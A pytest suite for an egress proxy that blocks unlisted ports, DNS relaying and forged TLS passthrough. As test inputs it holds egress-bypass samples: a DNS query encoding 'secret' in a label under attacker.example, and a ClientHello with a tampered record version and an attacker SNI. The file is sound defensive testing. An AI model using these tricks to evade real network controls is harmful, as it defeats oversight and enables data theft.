"""Bypass class: ports, and protocols egress does not inspect.

A route admits 443 for HTTPS and 80 for plain HTTP unless it lists ``ports``;
every other port of a routed host is refused with the 403 naming the port, and
nothing is dialled. Inside a tunnel only HTTP and TLS run (raw TCP only for a
``tls_passthrough`` route on its ports): mitmproxy's DNS layer for port 53,
which would otherwise relay the agent's query, never gets a byte through.
"""

from __future__ import annotations

import contextlib
import json
import ssl
import struct

import pytest
from egress_client import assert_denied, connect, mitm_tls, request, tunnel

ROUTES = {
    "routes": [
        {"host": "other.example.test"},
        {"host": "dns.example.test", "ports": [53]},
        {"host": "pass.example.test", "tls_passthrough": True, "ports": [8443]},
    ]
}


@pytest.fixture(scope="module")
def egress(module_egress, upstream, module_listener):
    """Every name and port a test aims at is pinned to the counting listener, which
    must accept nothing (the ``listener`` fixture checks) unless a test says so."""
    from conftest import resolve_map

    pins = resolve_map(upstream)
    for name in ("other.example.test", "dns.example.test", "pass.example.test"):
        for port in (22, 25, 53, 8080, 8443, 65535):
            pins[f"{name}:{port}"] = f"127.0.0.1:{module_listener.port}"
    return module_egress(ROUTES, env={"BOT_BOTTLE_EGRESS_RESOLVE": json.dumps(pins)})


@pytest.mark.parametrize("port", [22, 25, 53, 8080, 8443, 65535])
def test_tls_to_an_unlisted_port_is_answered_with_a_403_naming_the_port(
    egress, quiet_upstream, listener, port
):
    answer, raw = tunnel(egress.port, f"other.example.test:{port}")
    assert answer.status == 200  # accepted, so the refusal can be read inside
    with mitm_tls(egress, raw, "other.example.test") as s:
        r = request(s, "GET", "/x", f"other.example.test:{port}")
    assert_denied(r, f"port {port} is not routed for host other.example.test")


@pytest.mark.parametrize(
    "payload",
    [
        b"SSH-2.0-OpenSSH_9.2\r\n",
        b"EHLO attacker\r\n",
        b"\x00\x1d" + b"\x12\x34\x01\x00\x00\x01" + b"\x00" * 23,  # DNS over TCP
        b"GET / HTTP/1.1\r\nHost: other.example.test:22\r\n\r\n",
    ],
)
def test_anything_in_a_tunnel_to_an_unlisted_port_goes_nowhere(
    egress, quiet_upstream, listener, payload
):
    _answer, s = tunnel(egress.port, "other.example.test:22")
    with s:
        s.sendall(payload)
        s.settimeout(5)
        try:
            back = s.recv(4096)
        except (ConnectionResetError, TimeoutError):
            back = b""
    assert payload not in back  # nothing echoed back by the listener


def _dns_query(name: str) -> bytes:
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    msg = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 1, 1)
    return struct.pack("!H", len(msg)) + msg


@pytest.mark.parametrize("name", ["exfil-c2VjcmV0.attacker.example", "api.example.test"])
def test_dns_through_a_tunnel_to_a_listed_port_53_is_refused_not_resolved(
    egress, quiet_upstream, listener, name
):
    mark = egress.mark()
    answer, s = tunnel(egress.port, "dns.example.test:53")
    assert answer.status == 200  # the route lists port 53 ...
    with s:
        s.sendall(_dns_query(name))
        s.settimeout(5)
        try:
            back = s.recv(4096)
        except (ConnectionResetError, TimeoutError):
            back = b""
    assert back == b""  # ... but the DNS layer never answers or relays
    line = egress.wait_for_line(lambda r: r.get("kind") == "layer", since=mark)
    assert line["decision"] == "deny" and "DNSLayer" in line["reason"]


def test_dns_inside_tls_to_port_53_is_not_a_way_around(egress, quiet_upstream, listener):
    """Inside TLS the proxy terminated, port 53 gets HTTP, not mitmproxy's DNS layer:
    a DNS-over-TLS query does not parse, and nothing is relayed."""
    _answer, raw = tunnel(egress.port, "dns.example.test:53")
    with mitm_tls(egress, raw, "dns.example.test") as s:
        s.sendall(_dns_query("exfil-c2VjcmV0.attacker.example"))
        s.settimeout(5)
        back = b""
        with contextlib.suppress(OSError):
            while chunk := s.recv(4096):
                back += chunk
    assert not back or back.startswith(b"HTTP/1.1 400")


@pytest.mark.parametrize("port", [8443, 443])
def test_raw_bytes_never_pass_even_a_passthrough_route(egress, quiet_upstream, listener, port):
    """Only TLS whose ClientHello egress read opens a passthrough route: raw bytes
    could carry a name egress never checked."""
    _answer, s = tunnel(egress.port, f"pass.example.test:{port}")
    with s, contextlib.suppress(ConnectionResetError):
        s.sendall(b"opaque raw bytes")
        s.settimeout(5)
        assert s.recv(100) == b""


def _client_hello(sni: str) -> tuple[ssl.SSLObject, ssl.MemoryBIO, bytes]:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return tls, incoming, outgoing.read()


@pytest.mark.parametrize("record_version", [0x04, 0x05, 0xFF])
def test_a_client_hello_mitmproxy_does_not_read_as_tls_cannot_open_passthrough(
    egress, quiet_upstream, listener, record_version
):
    """A record header saying 03 04 is accepted by OpenSSL servers but not read as TLS by
    mitmproxy: its SNI (here another host) must not reach the passthrough route."""
    _tls, _incoming, hello = _client_hello("attacker.example")
    forged = bytearray(hello)
    forged[2] = record_version
    _answer, s = tunnel(egress.port, "pass.example.test:8443")
    with s, contextlib.suppress(ConnectionResetError):
        s.sendall(bytes(forged))
        s.settimeout(5)
        assert s.recv(100) == b""


def test_a_readable_client_hello_for_the_route_does_pass(egress, listener):
    listener.expect_accepts = 1  # the listener is no TLS server: it echoes the hello back
    _tls, _incoming, hello = _client_hello("pass.example.test")
    _answer, s = tunnel(egress.port, "pass.example.test:8443")
    with s:
        s.sendall(hello)
        s.settimeout(5)
        echoed = s.recv(65536)  # relayed unopened to the listener, which echoes it
    assert echoed and hello.startswith(echoed)
    assert listener.received[-1] == echoed


@pytest.mark.parametrize(
    ("url", "port"),
    [
        ("http://other.example.test:8080/x", 8080),
        ("http://other.example.test:443/x", 443),  # plain HTTP to the HTTPS port
        ("https://other.example.test:8443/x", 8443),
        ("http://other.example.test:22/x", 22),
    ],
)
def test_absolute_form_requests_to_other_ports_are_refused(
    egress, quiet_upstream, listener, url, port
):
    host = url.split("/")[2]
    with connect(egress.port) as s:
        r = request(s, "GET", url, host)
    assert_denied(r, f"port {port} is not routed")


@pytest.mark.parametrize("host_header", ["other.example.test:8443", "other.example.test:80"])
def test_a_host_header_naming_another_port_is_refused(egress, quiet_upstream, host_header):
    _answer, raw = tunnel(egress.port, "other.example.test:443")
    with mitm_tls(egress, raw, "other.example.test") as s:
        r = request(s, "GET", "/x", host_header)
    assert_denied(r, "does not match the target port 443")
